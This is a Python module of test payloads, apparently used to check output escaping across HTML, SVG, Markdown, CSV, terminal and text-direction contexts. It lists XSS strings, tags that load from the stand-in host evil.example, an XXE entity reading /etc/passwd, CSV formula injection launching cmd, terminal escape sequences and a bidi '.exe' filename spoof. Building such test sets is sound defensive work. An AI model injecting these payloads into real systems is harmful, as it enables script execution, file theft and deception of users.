"""Texts that mean something to what they are shown on: tried on every door out of the program.

Each names what it would do there. `BIDI` and `ZERO_WIDTH` texts do nothing but mislead a reader.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """A text, and what would take it for more than text."""

    name: str
    text: str
    door: str


def _of(door: str, **texts: str) -> tuple[Payload, ...]:
    return tuple(Payload(name.replace("_", " "), text, door) for name, text in texts.items())


HTML = _of(
    "html",
    script="<script>alert(1)</script>",
    picture='<img src=x onerror="alert(1)">',
    vector="<svg onload=alert(1)>",
    frame='<iframe src="javascript:alert(1)"></iframe>',
    closing="</script><script>alert(1)</script>",
    closing_style="</style><script>alert(1)</script>",
    closing_title="</title><script>alert(1)</script>",
    closing_textarea="</textarea><img src=x onerror=alert(1)>",
    quote='" onmouseover="alert(1)" x="',
    single_quote="' onmouseover='alert(1)' x='",
    comment="--><img src=x onerror=alert(1)><!--",
    cdata="]]><script>alert(1)</script>",
    entity="&lt;script&gt;alert(1)&lt;/script&gt;",
    number="&#60;script&#62;alert(1)&#60;/script&#62;",
    base="<base href=//evil.example/>",
    refresh='<meta http-equiv="refresh" content="0;url=//evil.example">',
    form="<form action=//evil.example><input name=a autofocus onfocus=alert(1)>",
    template="<template><script>alert(1)</script></template>",
    half="<img src=x onerror=alert(1)//",
    slash="<svg/onload=alert(1)//",
    upper="<ScRiPt>alert(1)</sCrIpT>",
    style="<style>@import'//evil.example/x.css'</style>",
    data="data:text/html,<script>alert(1)</script>",
    script_address="javascript:alert(1)",
)
SVG = _of(
    "svg",
    foreign="<foreignObject><body onload=alert(1)></foreignObject>",
    use='<use href="//evil.example/x.svg#a"/>',
    animate='<animate attributeName=href values="javascript:alert(1)"/>',
    doctype='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    instruction='<?xml-stylesheet href="//evil.example/x.css"?>',
)
MARKDOWN = _of(
    "markdown",
    link="[click](http://evil.example)",
    script_link="[click](javascript:alert(1))",
    image="![x](http://evil.example/x.png)",
    autolink="http://evil.example/x",
    bare_autolink="www.evil.example",
    mail="someone@evil.example",
    pointed="<http://evil.example>",
    heading="# heading",
    listed="- one\n- two",
    code="`code` ```fence```",
    bold="**bold** __bold__ ~~gone~~",
    table="|a|b|\n|-|-|",
    formula="$x^2$ $$y$$",
    colour=":red[text] :material/lock: :smile:",
    reference="[a]: http://evil.example",
)
CSV = _of(
    "csv",
    equals='=HYPERLINK("http://evil.example","x")',
    plus="+1+cmd|' /C calc'!A0",
    minus="-2+3+cmd|' /C calc'!A0",
    at="@SUM(1+1)",
    tab="\t=1+1",
    returned="\r=1+1",
    quoted='"=1+1',
    line="a\n=1+1",
    wide="＝1+1",
)
TERMINAL = _of(
    "terminal",
    clear="\x1b[2J\x1b[H",
    title="\x1b]0;owned\x07",
    clipboard="\x1b]52;c;ZXZpbA==\x07",
    hyperlink="\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    one_byte="\x9b31m",
    bell="\x07",
    over="good\rbad",
    back="good\x08\x08\x08\x08bad",
    device="\x1bP+q544e\x1b\\",
)
BIDI = _of(
    "reader",
    override="\u202egnp.exe",
    isolate="\u2066abc\u2069",
    mark="\u200fabc",
    arabic="مرحبا abc 123",
)
ZERO_WIDTH = _of(
    "reader",
    space="a\u200bb",
    joiner="a\u200db",
    order_mark="\ufeffa",
    hyphen="a\u00adb",
    tag="a\U000e0041b",
    nothing="a\x00b",
    accents="a" + "\u0301" * 40,
    line_separator="a\u2028b",
)
PAYLOADS = (*HTML, *SVG, *MARKDOWN, *CSV, *TERMINAL, *BIDI, *ZERO_WIDTH)
